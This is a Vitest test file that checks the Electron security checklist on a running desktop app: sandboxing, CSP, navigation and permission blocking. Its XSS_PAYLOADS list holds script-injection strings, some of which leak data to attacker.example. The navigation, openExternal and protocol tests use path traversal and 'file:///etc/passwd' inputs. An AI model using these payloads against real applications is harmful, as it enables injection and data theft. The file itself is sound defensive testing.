import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NEWEST_ELECTRON, SUPPORTED_MAJORS } from './electron-timeline.ts';
import { type LaunchedApp, launchApp, whyNoApp } from './launch-app.ts';

/** The twenty items of Electron's security checklist, asserted one by one on the running app. */
const why = whyNoApp();
if (why !== null) console.warn(`The security checklist is skipped: ${why}.`);

let launched: LaunchedApp;

interface Preferences {
  readonly [name: string]: unknown;
}

/** The settings of the running window, as Electron itself reports them. */
async function preferences(): Promise<Preferences> {
  return await launched.app.evaluate(({ BrowserWindow }) => {
    const [window] = BrowserWindow.getAllWindows();
    const contents = window?.webContents as unknown as { getLastWebPreferences(): Preferences };
    return JSON.parse(JSON.stringify(contents.getLastWebPreferences())) as Preferences;
  });
}

const header = (name: string) =>
  launched.page.evaluate((key) => fetch('app://ui/index.html').then((response) => response.headers.get(key)), name);

const XSS_PAYLOADS = [
  '<script>window.owned=1</script>',
  '<img src=x onerror="window.owned=1">',
  '<svg onload="window.owned=1"></svg>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '<iframe src="javascript:parent.owned=1"></iframe>',
  '<object data="data:text/html,<script>parent.owned=1</script>"></object>',
  '<details open ontoggle="window.owned=1">x</details>',
  '<input autofocus onfocus="window.owned=1">',
  '<video><source onerror="window.owned=1"></video>',
  '<a id="bait" href="javascript:window.owned=1">x</a>',
  '<math><mi xlink:href="javascript:window.owned=1">x</mi></math>',
  '<base href="https://attacker.example/"><script src="/x.js"></script>',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<form action="https://attacker.example/"><button id="send">x</button></form>',
  '<img src="https://attacker.example/leak?secret">',
  '<style>body{background:url(https://attacker.example/leak)}</style>',
];

/** Bypasses the page's own escaping: parses markup without Trusted Types and adopts it into the document. */
async function plant(markup: string): Promise<void> {
  await launched.page.evaluate((html) => {
    const policy = (
      window as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): { createHTML(html: string): string } } }
    ).trustedTypes?.createPolicy(`test-${Math.random().toString(36).slice(2)}`, { createHTML: (text: string) => text });
    const range = document.createRange();
    range.selectNode(document.body);
    document.body.append(range.createContextualFragment(policy?.createHTML(html) ?? html));
    document.querySelector<HTMLElement>('#bait')?.click();
    document.querySelector<HTMLElement>('#send')?.click();
  }, markup);
}

async function permissionAnswers(): Promise<Record<string, string>> {
  return await launched.page.evaluate(async () => {
    const ask = async (run: () => Promise<unknown>) =>
      run().then(
        () => 'granted',
        (failure: Error) => failure.name,
      );
    return {
      camera: await ask(() => navigator.mediaDevices.getUserMedia({ video: true })),
      screen: await ask(() => navigator.mediaDevices.getDisplayMedia()),
      notifications: await Notification.requestPermission(),
      place: await ask(
        () =>
          new Promise((resolve, reject) =>
            navigator.geolocation.getCurrentPosition(resolve, () => reject(new DOMException('', 'NotAllowedError'))),
          ),
      ),
      clipboard: await ask(() => navigator.clipboard.readText()),
      midi: await ask(() => navigator.requestMIDIAccess({ sysex: true })),
    };
  });
}

const CHECKLIST: ReadonlyArray<readonly [item: string, check: () => Promise<void>]> = [
  [
    '1 only secure content is loaded: the page requests nothing but app: addresses',
    async () => {
      const outside = launched.requests.filter((address) => !/^(app:\/\/ui\/|blob:app:|data:)/.test(address));
      expect(outside).toEqual([]);
      expect(await launched.page.evaluate(() => location.href)).toBe('app://ui/index.html');
      expect(
        await launched.page.evaluate(() =>
          fetch('https://example.com/').then(
            () => 'sent',
            () => 'blocked',
          ),
        ),
      ).toBe('blocked');
    },
  ],
  [
    '2 the page has no Node integration',
    async () => {
      const found = await launched.page.evaluate(() => [
        typeof (globalThis as never)['process'],
        typeof (globalThis as never)['require'],
        typeof (globalThis as never)['Buffer'],
      ]);
      expect(found).toEqual(['undefined', 'undefined', 'undefined']);
      const read = await preferences();
      expect(read).toMatchObject({ nodeIntegration: false, nodeIntegrationInSubFrames: false });
      // Electron 33 does not report this one; tests/main/windows.test.ts reads it from the factory.
      expect(read['nodeIntegrationInWorker']).not.toBe(true);
    },
  ],
  [
    '3 context isolation is on',
    async () => {
      expect(await preferences()).toMatchObject({ contextIsolation: true });
    },
  ],
  [
    '4 the page is sandboxed',
    async () => {
      expect(await preferences()).toMatchObject({ sandbox: true });
    },
  ],
  [
    '5 permissions: everything but the microphone is refused',
    async () => {
      expect(Object.values(await permissionAnswers())).not.toContain('granted');
      const denied = await launched.app.evaluate(({ session }) => typeof session.defaultSession.setPermissionCheckHandler);
      expect(denied).toBe('function');
    },
  ],
  [
    '6 webSecurity stays on',
    async () => {
      expect((await preferences())['webSecurity']).not.toBe(false);
    },
  ],
  [
    '7 a strict Content-Security-Policy: planted scripts do not run',
    async () => {
      const policy = (await header('content-security-policy')) ?? '';
      expect(policy).toContain("default-src 'none'");
      expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
      await launched.page.evaluate(() => {
        (window as unknown as { owned: number }).owned = 0;
      });
      for (const payload of XSS_PAYLOADS) await plant(payload);
      await launched.page.waitForTimeout(500);
      expect(await launched.page.evaluate(() => (window as unknown as { owned: number }).owned)).toBe(0);
      expect(await launched.page.evaluate(() => location.href)).toBe('app://ui/index.html');
      expect(
        await launched.page.evaluate(
          () =>
            new Promise((resolve) => {
              const script = document.createElement('script');
              script.type = 'module';
              script.onerror = () => resolve('blocked');
              script.onload = () => resolve('ran');
              try {
                script.src = 'data:text/javascript,window.owned=1';
                document.head.append(script);
              } catch {
                resolve('blocked');
              }
            }),
        ),
      ).toBe('blocked');
    },
  ],
  [
    '8 insecure content is never allowed',
    async () => {
      expect((await preferences())['allowRunningInsecureContent']).not.toBe(true);
    },
  ],
  [
    '9 experimental features are off',
    async () => {
      expect((await preferences())['experimentalFeatures']).not.toBe(true);
    },
  ],
  [
    '10 no Blink features are switched on',
    async () => {
      expect((await preferences())['enableBlinkFeatures'] ?? '').toBe('');
    },
  ],
  [
    '11 webview popups are not allowed: there is no webview tag',
    async () => {
      expect((await preferences())['webviewTag']).not.toBe(true);
    },
  ],
  [
    '12 a webview is prevented before it attaches',
    async () => {
      const attached = await launched.page.evaluate(async () => {
        const view = document.createElement('webview');
        view.setAttribute('src', 'app://ui/index.html');
        document.body.append(view);
        await new Promise((resolve) => setTimeout(resolve, 200));
        const made = 'getWebContentsId' in view;
        view.remove();
        return made;
      });
      expect(attached).toBe(false);
      expect(
        await launched.app.evaluate(
          ({ webContents }) => webContents.getAllWebContents().filter((one) => one.getType() === 'webview').length,
        ),
      ).toBe(0);
    },
  ],
  [
    '13 navigation away is prevented',
    async () => {
      for (const address of ['https://example.com/', 'app://evil/index.html', 'file:///etc/passwd', 'data:text/html,x']) {
        await launched.page.evaluate((to) => location.assign(to), address).catch(() => undefined);
        await launched.page.waitForTimeout(150);
        expect(launched.page.url()).toBe('app://ui/index.html');
      }
    },
  ],
  [
    '14 new windows are denied',
    async () => {
      await launched.page.evaluate(() => window.open('app://ui/index.html'));
      await launched.page.waitForTimeout(200);
      expect(await launched.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
    },
  ],
  [
    '15 nothing is opened outside without asking',
    async () => {
      const opened = await launched.app.evaluate(async ({ shell, dialog, BrowserWindow }) => {
        const calls: string[] = [];
        const asked: string[] = [];
        shell.openExternal = async (url: string) => void calls.push(url);
        dialog.showMessageBox = (async (options: { message: string }) => {
          asked.push(options.message);
          return { response: 1, checkboxChecked: false };
        }) as unknown as typeof dialog.showMessageBox;
        const [window] = BrowserWindow.getAllWindows();
        for (const url of ['file:///etc/passwd', 'smb://host/share', 'javascript:alert(1)', 'https://example.com/page'])
          await window?.webContents.executeJavaScript(`window.open(${JSON.stringify(url)}); 0`, true);
        await new Promise((resolve) => setTimeout(resolve, 200));
        return { calls, asked };
      });
      expect(opened).toEqual({ calls: [], asked: ['Open example.com?'] });
    },
  ],
  [
    '16 Electron is one of the newest three majors',
    async () => {
      const pinned = JSON.parse(readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as {
        devDependencies: { electron: string };
      };
      const major = Number(pinned.devDependencies.electron.split('.')[0]);
      expect(major).toBeGreaterThan(NEWEST_ELECTRON.major - SUPPORTED_MAJORS);
    },
  ],
  [
    '17 senders of messages are validated: a frame inside the page is a stranger',
    async () => {
      const answers = await launched.app.evaluate(async ({ BrowserWindow }) => {
        const contents = BrowserWindow.getAllWindows()[0]?.webContents;
        if (contents === undefined) return -1;
        let answered = 0;
        const send = contents.send.bind(contents);
        contents.send = (...message) => {
          answered += 1;
          send(...message);
        };
        const request = { kind: 'request', id: 1, name: 'readSettings', input: undefined };
        const stranger = (senderFrame: unknown) => contents.ipc.emit('parley:window', { sender: contents, senderFrame }, request);
        stranger(null);
        stranger({ url: 'app://ui/index.html' });
        stranger({ url: 'about:blank' });
        stranger({ url: 'https://example.com/' });
        await new Promise((resolve) => setTimeout(resolve, 100));
        const refused = answered;
        contents.ipc.emit('parley:window', { sender: contents, senderFrame: contents.mainFrame }, request);
        await new Promise((resolve) => setTimeout(resolve, 100));
        contents.send = send;
        return { refused, own: answered - refused };
      });
      expect(answers).toEqual({ refused: 0, own: 1 });
    },
  ],
  [
    '18 the page comes from a protocol of our own, isolated from other origins',
    async () => {
      expect(await launched.page.evaluate(() => crossOriginIsolated)).toBe(true);
      expect(await header('x-content-type-options')).toBe('nosniff');
      const status = (path: string) => launched.page.evaluate((to) => fetch(to).then((response) => response.status), path);
      for (const path of ['/..%2f..%2fpackage.json', '/%2e%2e/%2e%2e/package.json', '/package.json', '/index.html%00.js'])
        expect(await status(path)).toBe(404);
      expect(await launched.page.evaluate(() => fetch('/index.html', { method: 'POST' }).then((response) => response.status))).toBe(405);
    },
  ],
  [
    '19 fuses are set when the app is packaged',
    async () => {
      const { electronFuses } = await readBuilderFuses();
      expect(electronFuses).toMatch(/runAsNode:\s*false/);
      expect(electronFuses).toMatch(/onlyLoadAppFromAsar:\s*true/);
      expect(electronFuses).toMatch(/grantFileProtocolExtraPrivileges:\s*false/);
    },
  ],
  [
    '20 the page gets typed functions and no Electron API',
    async () => {
      const exposed = await launched.page.evaluate(() =>
        Object.entries((window as unknown as { parley: object }).parley).map(([name, value]) => [name, typeof value]),
      );
      expect(exposed.map(([, kind]) => kind)).toEqual(exposed.map(() => 'function'));
      expect(exposed.map(([name]) => name)).not.toContain('send');
      const argumentCount = await launched.page.evaluate(async () => {
        const { parley } = window as unknown as {
          parley: { on(name: string, listener: (...all: unknown[]) => void): () => void; changeSettings(change: object): Promise<unknown> };
        };
        return await new Promise((resolve) => {
          const stop = parley.on('settings', (...all) => {
            stop();
            resolve(all.length);
          });
          void parley.changeSettings({ cues: true });
        });
      });
      expect(argumentCount).toBe(1);
    },
  ],
];

async function readBuilderFuses(): Promise<{ readonly electronFuses: string }> {
  return { electronFuses: readFileSync(join(new URL('../..', import.meta.url).pathname, 'electron-builder.yml'), 'utf8') };
}

describe.skipIf(why !== null)('the security checklist on the running app', () => {
  beforeAll(async () => {
    launched = await launchApp();
    await launched.page.waitForLoadState('load');
  });
  afterAll(async () => await launched?.close());

  it.each(CHECKLIST)('%s', async (_item, check) => await check());

  it('has no listening socket in any of its processes', () => {
    const sockets = execFileSync('sh', ['-c', `ss -ltnp 2>/dev/null || true`], { encoding: 'utf8' });
    const root = launched.app.process().pid ?? 0;
    const children = execFileSync('sh', ['-c', `ps -eo pid,ppid`], { encoding: 'utf8' });
    const family = familyOf(root, children);
    // Playwright drives main through the debugger it asked for; that socket is the test's own.
    const own = sockets
      .split('\n')
      .filter((line) => [...family].some((pid) => line.includes(`pid=${pid},`)) && !line.includes(`pid=${root},`));
    expect(own).toEqual([]);
  });

  it('writes no security warning and no policy violation to the console', () => {
    expect(launched.consoleLines.filter((line) => /Electron Security Warning/.test(line))).toEqual([]);
  });
});

function familyOf(root: number, table: string): Set<number> {
  const family = new Set([root]);
  for (let round = 0; round < 6; round += 1)
    for (const line of table.split('\n')) {
      const [pid, parent] = line.trim().split(/\s+/).map(Number);
      if (pid !== undefined && parent !== undefined && family.has(parent)) family.add(pid);
    }
  return family;
}
